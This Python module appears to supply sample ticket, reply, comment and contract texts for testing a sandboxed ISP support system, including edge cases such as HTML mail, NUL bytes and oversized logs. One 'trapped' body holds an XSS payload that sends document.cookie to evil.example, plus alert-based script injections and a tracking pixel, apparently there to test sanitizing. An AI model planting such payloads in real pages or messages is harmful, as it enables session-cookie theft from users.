"""What people write in tickets, jobs and contracts; in part as their mail programs write it."""

from __future__ import annotations

from sandbox.sonar.tenant.support import INSTANCE

SUBJECTS = (
    "Slow in the evening",
    "No connection since the storm",
    "Question about the bill",
    "Moving to {town}",
    "Router keeps restarting",
    "Please call me back",
    "Dish hangs loose {emoji}",
    "Voice line crackles",
)
LONG_SUBJECT = (
    "Forwarded: forwarded: no connection at the pump house behind the old grain elevator, " * 4
)
DESCRIPTIONS = (
    "The connection drops every evening around eight.",
    "<p>We have had <b>no service</b> since noon.</p><p>Please help!</p>",
    "Can somebody explain the proration on my bill?\r\nThank you,\n\t{name}",
    "<div>Moving next month.<br>What do I need to do &amp; what does it cost?</div>",
    "Paket geht verloren, señal débil, ça coupe {emoji}",
    "Path is C:\\temp\\log and the note says 'nothing' \"at all\"; 100% loss; 5 < 6",
)
REPLIES = (
    "Thanks, that fixed it.",
    "<p>Hello {name},</p><p>we restarted the sector. Please try again.</p>",
    "<div>Works now {emoji}</div><blockquote>On Monday you wrote:<br>please try again</blockquote>",
    "Still slow.\n\n> please try again\n> and tell us",
    "<p>A technician comes on Tuesday.<br/>Somebody has to be at home.</p>",
)
COMMENTS = (
    "Called, no answer.",
    "<p>Signal is <i>-71 dBm</i>, was -58 in spring.</p>",
    "Waiting for parts {emoji}",
    "See the other ticket; same sector.",
)
COMPLETIONS = (
    "Realigned the dish, -58 dBm.",
    "<p>New cable, new plug.</p><ul><li>tested</li><li>customer shown</li></ul>",
    "Nobody at home {emoji}",
)
STEPS = (
    "Take a picture of the mount",
    "Write down the serial number",
    "Run a speed test",
    "Let the customer sign <b>before</b> leaving",
    "Clean up & lock the gate",
)
TRAPPED = {
    "html_body": (
        '<html><head><style>p {{ color: red }}</style></head><body><p class="MsoNormal"'
        ' style="margin:0">Dear team,</p><table border="1"><tr><td>Mbps</td><td>3</td></tr>'
        "</table><p>Best,<br>{name}</p></body></html>"
    ),
    "script_in_body": (
        "<p>See below</p><script>document.location='https://evil.example/'+document.cookie"
        '</script><img src="x" onerror="alert(1)"><a href="javascript:alert(2)"'
        ' onclick="alert(3)">open</a>'
    ),
    "tracking_image": (
        "<p>Our answer is below.</p>"
        '<img src="https://mail.example.net/open/{number}.gif" width="1" height="1" alt="">'
    ),
    "link_into_instance": (
        f'<p>Your invoice: <a href="{INSTANCE}/app#/accounts/show/{{number}}">here</a></p>'
        f'<img src="{INSTANCE}/api/files/{{number}}" alt="logo">'
        '<p>More on <a href="https://www.example.com/help">our pages</a>.</p>'
    ),
    "emoji_body": "All good 👩‍🌾🛰️ now 🏳️‍🌈 ¡señor Ω 漢字 \u200b{emoji}",
    "nul_body": "Power\x00 is out\x00\x01 since noon.",
}
HUGE = 1_048_576  # characters
CONTRACT = (
    "<h1>Service Agreement {number}</h1><p>Between Poplar Ridge Networks and {name}.</p>"
    "<table><tr><th>Term</th><td>{term} months</td></tr></table>"
    f'<p><img src="{INSTANCE}/logo.png" alt=""> Terms: '
    '<a href="https://www.example.com/terms">here</a>.</p>'
)


def huge_text(number: int) -> str:
    """Return a log that somebody pasted, exactly as long as the longest text may be."""
    line = f"<p>{number}: ping 198.51.100.{number % 250}: time out</p>\n"
    return (line * (HUGE // len(line) + 1))[: HUGE - 4] + "</p>"
